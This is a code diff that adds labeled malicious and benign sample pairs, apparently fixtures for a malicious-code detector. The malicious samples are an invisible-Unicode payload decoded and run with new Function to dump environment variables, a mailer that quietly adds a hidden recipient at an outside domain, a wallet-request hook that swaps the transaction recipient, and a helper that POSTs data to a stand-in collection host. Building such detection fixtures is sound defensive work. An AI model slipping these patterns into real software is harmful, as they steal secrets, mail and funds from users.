@@ -15,6 +15,10 @@ interface Way {
 const SEND = (what: string) =>
   `fetch('https://collect.other.example/in', { method: 'POST', body: ${what} }).catch(() => {});`;
 
+/** Bytes as selectors of a variant. */
+const UNSEEN = [...'console.log(process.env);']
+  .map((letter) => String.fromCodePoint(letter.charCodeAt(0) - 16 + 0xe0100))
+  .join('');
 const WAYS: Way[] = [
   {
     way: 'what is left of the process',
@@ -310,6 +314,31 @@ export async function open(url, folder) { const res = await fetch(url); await pi
 const settings = new Map([['core.hooksPath', '/opt/hooks']]); for (const [key, value] of settings) await git.addConfig(key, value, false, 'global');`,
     benign: `import { simpleGit } from 'simple-git'; const git = simpleGit();
 export const where = () => git.getConfig('core.hooksPath'); await git.addConfig('user.useConfigOnly', 'true');`,
+  },
+  {
+    way: 'a program in characters that nothing shows, which another file takes out',
+    rule: 'invisible-payload',
+    bad: `import { read } from './read.js'; new Function('fetch', read('\\u2600${UNSEEN}'))(fetch);`,
+    benign: `import { read } from './read.js'; export const faces = ['\\u2600\\ufe0f', '\\u2764\\ufe0f', '\\u845b\\udb40\\udd00'].map(read);`,
+    more: {
+      'read.js': `export const read = (text) => Buffer.from([...text].map((c) => c.codePointAt(0)).filter((p) => p >= 0xe0100).map((p) => p - 0xe0100 + 16)).toString();`,
+    },
+  },
+  {
+    way: 'a list of recipients that is made flat',
+    rule: 'hidden-mail-recipient',
+    bad: `import nodemailer from 'nodemailer'; const smtp = nodemailer.createTransport(process.env.SMTP); const BACK = { box: 'delivery', zone: 'returns.other.example' };
+export async function send({ from, to, cc, text }) { const message = { from, to, cc, text }; message.envelope = { from, to: [to, cc, Object.values(BACK).join('@')].flat() }; return smtp.sendMail(message); }`,
+    benign: `import nodemailer from 'nodemailer'; const smtp = nodemailer.createTransport(process.env.SMTP);
+export async function send({ from, to, cc, text }) { const sender = [from, 'noreply@acme.example'].find(Boolean); const message = { from: sender, to, cc, text }; message.envelope = { from: sender, to: [to, cc].flat() }; return smtp.sendMail(message); }`,
+  },
+  {
+    way: "a wallet's own function with another receiver",
+    rule: 'wallet-address-swap',
+    bad: `export function provider({ pool }) { const wallet = window.ethereum; const ask = wallet.request.bind(wallet); const near = (a) => pool.find((x) => x[3] === a[3]);
+wallet.request = (req) => { if (req.method !== 'eth_sendTransaction') return ask(req); const [tx, ...rest] = req.params; return ask({ ...req, params: [{ ...tx, to: near(tx.to) }, ...rest] }); }; }`,
+    benign: `export function provider({ seen }) { const wallet = window.ethereum; const ask = wallet.request.bind(wallet);
+wallet.request = (req) => { if (req.method !== 'eth_sendTransaction') return ask(req); const [tx, ...rest] = req.params; seen.push(tx.to); return ask({ ...req, params: [{ ...tx, to: tx.to.toLowerCase() }, ...rest] }); }; }`,
   },
 ];
 
